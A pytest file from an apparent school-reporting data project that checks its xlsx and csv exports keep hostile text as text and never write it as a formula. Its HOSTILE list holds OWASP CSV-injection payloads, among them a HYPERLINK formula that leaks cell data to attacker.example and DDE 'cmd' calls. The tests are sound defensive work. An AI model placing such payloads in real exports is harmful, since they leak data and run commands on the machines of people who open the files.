"""Every xlsx and csv the project writes: numbers as numbers with the report's number formats, and text - however
hostile - as text, never a formula (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook

from dagster_project.lib.reports import spreadsheets
from dagster_project.lib.reports.report_text import format_count, format_difference, format_measure
from dagster_project.lib.reports.restricted_exports import SUPPORT_COLUMNS, export_support_categories
from dagster_project.lib.reports.xlsx_downloads import write_table_downloads
from dagster_project.lib.returns.errors import RowError, write_error_report
from dagster_project.lib.returns.spec import RETURNS
from dagster_project.lib.returns.templates import write_templates

# Payloads from the OWASP CSV Injection page and the issue: each would run as a formula if written as one.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&B2, "Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def formulas_in(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(path) as workbook:
        sheets = [n for n in workbook.namelist() if n.startswith("xl/worksheets/")]
        return [m for n in sheets for m in re.findall(rb"<f[ >].*?</f>", workbook.read(n))]


def text_cells(path: Path) -> dict[str, tuple[str, bool]]:
    """value -> (cell type, quote prefix) of every text cell in the workbook."""
    workbook = load_workbook(path)
    return {
        cell.value: (cell.data_type, bool(cell.quotePrefix))
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_written_as_text(path: Path, values: list[str]) -> None:
    assert formulas_in(path) == []
    cells = text_cells(path)
    for value in values:
        # XML reads a carriage return in text as a line feed; the cell is still text
        assert cells[value.replace("\r", "\n")] == ("s", True), (path.name, value)


def test_report_figures_are_numbers_with_the_report_number_format(tmp_path: Path):
    table = pd.DataFrame(
        {
            "Measure": ["Reading, writing and maths: % meeting the expected standard", "Attainment 8: average score"],
            "Kingsmere": [format_measure(65.8, "percent"), format_measure(44.84, "points")],
            "Difference from national": [format_difference(2.6, "percent"), format_difference(-2.44, "points")],
            "Schools": [format_count(1234), "suppressed"],
        },
        dtype=object,
    )
    (path,) = write_table_downloads({"Headlines KS2": table}, tmp_path, Path("committee_report/report.html"))
    sheet = load_workbook(path).active
    assert [c.value for c in sheet[1]] == list(table.columns)
    percent, score = sheet["B2"], sheet["B3"]
    assert (percent.value, percent.number_format) == (0.66, "0%")
    assert (score.value, score.number_format) == (44.8, "#,##0.0")
    assert (sheet["C2"].value, sheet["C2"].number_format) == (3, "+#,##0;-#,##0;0")
    assert (sheet["C3"].value, sheet["C3"].number_format) == (-2.4, "+#,##0.0;-#,##0.0;0.0")
    assert (sheet["D2"].value, sheet["D2"].number_format) == (1234, "#,##0")
    assert sheet["D3"].value == "suppressed" and sheet["D3"].data_type == "s"
    # summable: what an analyst does first
    assert sum(c.value for c in (sheet["C2"], sheet["C3"])) == pytest.approx(0.6)


def test_a_missing_figure_is_an_empty_cell_and_dates_are_dates(tmp_path: Path):
    frame = pd.DataFrame({"When": [date(2026, 2, 16), None], "Pupils": [12, float("nan")]}, dtype=object)
    path = spreadsheets.write_xlsx(tmp_path / "t.xlsx", {"T": frame})
    sheet = load_workbook(path).active
    assert sheet["A2"].is_date and sheet["A2"].value.date() == date(2026, 2, 16)
    assert sheet["A3"].value is None and sheet["B3"].value is None
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"


def test_hostile_text_in_every_column_of_a_published_download_stays_text(tmp_path: Path):
    frame = pd.DataFrame({f"Column {i}": [value] for i, value in enumerate(HOSTILE)}, dtype=object)
    frame.columns = [*HOSTILE[:2], *frame.columns[2:]]  # hostile headers too
    (path,) = write_table_downloads({"Inspections": frame}, tmp_path, Path("inspection_briefing/b.html"))
    assert_written_as_text(path, HOSTILE)


def test_the_same_table_gives_the_same_bytes_and_no_partial_file_is_left(tmp_path: Path):
    frame = pd.DataFrame({"School": ["Brookside"], "Gap": [format_difference(-3, "percent")]}, dtype=object)
    first = spreadsheets.write_xlsx(tmp_path / "a.xlsx", {"Gaps": frame})
    second = spreadsheets.write_xlsx(tmp_path / "b.xlsx", {"Gaps": frame})
    assert first.read_bytes() == second.read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.xlsx", "b.xlsx"]


def test_csv_quotes_text_prefixes_formula_text_and_leaves_numbers_bare(tmp_path: Path):
    frame = pd.DataFrame({"note": HOSTILE, "count": range(len(HOSTILE))}, dtype=object)
    path = spreadsheets.write_csv(tmp_path / "t.csv", frame)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["note", "count"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert '"=' not in raw.decode("utf-8-sig") and "\n0\r\n" not in raw.decode("utf-8-sig")
    assert all(line.endswith(f",{n}") for n, line in enumerate(raw.decode("utf-8-sig").split("\r\n")[1:4]))


def _support_category_warehouse(path: Path, value: str) -> Path:
    """The models the export reads: rpt_support__schools with `value` in every text column, the category names,
    and the school's move since last term with `value` as what changed."""
    numbers = {"urn", "min_contacts_per_year", "min_contacts_per_term", "category_rank", "years_below_floor"}
    computed = {"identified", "change_since_last_term"}  # the export derives these two
    names = [c for c in SUPPORT_COLUMNS if c not in computed] + ["category_rank", "is_identified_for_intervention"]
    with duckdb.connect(str(path)) as connection:
        columns = ", ".join(
            f"{c} integer" if c in numbers else f"{c} boolean" if c.startswith("is_") else f"{c} varchar" for c in names
        )
        connection.execute(f"create table rpt_support__schools ({columns})")
        values = [
            900001 if c == "urn" else 18 if c in numbers else True if c.startswith("is_") else value for c in names
        ]
        connection.execute(f"insert into rpt_support__schools values ({', '.join('?' * len(values))})", values)
        connection.execute(
            "create table rpt_committee__category_distribution as select * from (values "
            "('A', 'Universal', 1), ('B', 'Light touch', 2)) t(support_category, category_short_name, category_rank)"
        )
        connection.execute(
            "create table rpt_support__category_moves as select 900001 as urn, 'A' as previous_category, "
            "'B' as support_category, ? as what_changed",
            [value],
        )
    return path


@pytest.mark.parametrize("payload", HOSTILE[:5])
def test_restricted_support_category_list_writes_hostile_text_as_text_in_xlsx_and_csv(tmp_path: Path, payload):
    warehouse = _support_category_warehouse(tmp_path / "w.duckdb", payload)
    csv_path, xlsx_path = export_support_categories(warehouse, tmp_path / "restricted")
    assert formulas_in(xlsx_path) == []
    assert {value for value, kind in text_cells(xlsx_path).items() if kind == ("s", True)} >= {payload}
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["School"] == "'" + payload and row["URN"] == "900001"
    assert row["Change since last term"] == f"Light touch, was Universal: {payload}"


def test_returns_error_report_writes_the_returned_value_as_text(tmp_path: Path):
    returned = tmp_path / "causing_concern_register_2026-02-26.csv"
    errors = [RowError(returned.name, 2, "next_steps", payload, "at most 500 characters") for payload in HOSTILE]
    report = write_error_report(returned, errors)
    with report.open(encoding="utf-8-sig", newline="") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    assert sorted(values) == sorted("'" + payload for payload in HOSTILE)


def test_returns_templates_hold_text_cells_and_no_formula_but_their_drop_down_lists(tmp_path: Path):
    written = write_templates(tmp_path)
    workbooks = [path for path in written if path.suffix == ".xlsx"]
    assert len(workbooks) == len(RETURNS)
    for path in workbooks:
        assert formulas_in(path) == []
        assert all(kind == "s" for kind, _ in text_cells(path).values())
